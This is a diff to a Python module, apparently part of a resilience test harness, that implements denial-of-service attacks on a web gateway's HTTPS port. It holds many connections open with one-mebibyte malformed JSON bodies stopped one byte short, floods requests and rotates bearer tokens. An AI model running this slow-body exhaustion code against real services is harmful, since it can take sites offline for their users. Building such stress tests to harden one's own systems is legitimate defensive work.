@@ -1,4 +1,5 @@
 """Attacks on the HTTPS port for websites: slow heads, many connections, floods of requests, and bodies."""
+import itertools
 import time
 
 from network import Crowd, plain_socket, reset, tls
@@ -56,12 +57,20 @@ def unwanted_bodies(target, tally):
 
 def wanted_bodies(target, tally):
     """Bodies of a mebibyte that are no JSON, with the token of a malicious web shop."""
-    send_bodies(target, tally, b"Authorization: Bearer " + target.site_token.encode() + b"\r\n")
+    send_bodies(target, tally, bearer(target.site_tokens[0]))
+
+
+def bearer(token):
+    return b"Authorization: Bearer " + token.encode() + b"\r\n"
+
+
+def head_of_body(credential):
+    return (b"PUT /v1/orders/1 HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + credential
+            + b"Content-Length: %d\r\n\r\n" % MEBIBYTE)
 
 
 def send_bodies(target, tally, credential):
-    head = (b"PUT /v1/orders/1 HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + credential
-            + b"Content-Length: %d\r\n\r\n" % MEBIBYTE)
+    head = head_of_body(credential)
     body = b"[" * MEBIBYTE
     context = target.context()
     while True:
@@ -79,20 +88,37 @@ def send_bodies(target, tally, credential):
 
 def held_bodies(target, tally):
     """Every connection that the port takes, each with a body that stops one byte before its end."""
-    head = (b"PUT /v1/orders/1 HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer "
-            + target.site_token.encode() + b"\r\nContent-Length: %d\r\n\r\n" % MEBIBYTE)
-    crowd = Crowd(target.context(), target.web_port)
+    heads = itertools.cycle([head_of_body(bearer(token)) for token in target.site_tokens])
     body = b"[" * (MEBIBYTE - 1)
+    crowd = Crowd(target.context(), target.web_port)
+    # What is held; the gateway gives each of them half a minute.
+    held = set()
     while True:
         crowd.grow(CONNECTIONS - len(crowd.open), deadline_s=5)
         for descriptor, link in list(crowd.open.items()):
             try:
-                link.settimeout(5)
-                link.sendall(head)
-                link.sendall(body)
-                tally.count()
-                link.setblocking(False)
+                if descriptor not in held:
+                    link.settimeout(30)
+                    link.sendall(next(heads))
+                    link.sendall(body)
+                    link.setblocking(False)
+                    held.add(descriptor)
+                elif is_over(link):
+                    raise ConnectionError("the gateway has answered")
             except OSError:
+                held.discard(descriptor)
                 del crowd.open[descriptor]
                 link.close()
+        tally.reach(len(held))
+        if len(held) == CONNECTIONS:
+            tally.ready()
         time.sleep(0.5)
+
+
+def is_over(link):
+    """Whether a non-blocking connection has something to read, be it an answer or its end."""
+    try:
+        link.recv(1)
+        return True
+    except OSError as error:
+        return "want" not in type(error).__name__.lower()
